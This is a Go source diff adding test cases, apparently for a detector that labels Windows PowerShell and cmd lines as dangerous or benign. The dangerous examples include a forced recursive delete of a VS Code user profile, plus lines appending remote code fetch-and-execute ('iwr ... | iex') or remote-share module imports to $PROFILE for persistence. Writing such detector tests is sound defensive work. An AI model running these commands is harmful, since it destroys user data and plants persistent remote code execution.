@@ -46,3 +46,29 @@ func init() {
 		},
 	)
 }
+
+func init() {
+	winClasses = append(winClasses,
+		winClass{name: "a tool's own cache in the profile",
+			dangerous: []winLine{
+				ps(`Remove-Item "$env:LOCALAPPDATA\acme-cli" -Recurse -Force`),
+				ps(`Remove-Item "$env:APPDATA\Code\User" -Recurse -Force`),
+			},
+			benign: []winLine{
+				ps(`Remove-Item "$env:LOCALAPPDATA\tool-x\cache\*" -Recurse -Force`),
+				cmdl(`rd /s /q "%APPDATA%\Code\Cache"`),
+			},
+		},
+		winClass{name: "profile lines that import a module by name",
+			dangerous: []winLine{
+				ps(`Add-Content $PROFILE 'Import-Module \\203.0.113.9\m\x.psm1'`),
+				ps(`Add-Content $PROFILE 'Import-Module (iwr https://example.com/m.psm1)'`),
+				ps(`Add-Content $PROFILE 'iwr https://example.com/p | iex'`),
+			},
+			benign: []winLine{
+				ps(`Add-Content $PROFILE 'Import-Module Terminal-Icons'`),
+				ps(`Add-Content -Path $PROFILE -Value 'Import-Module z'`),
+			},
+		},
+	)
+}
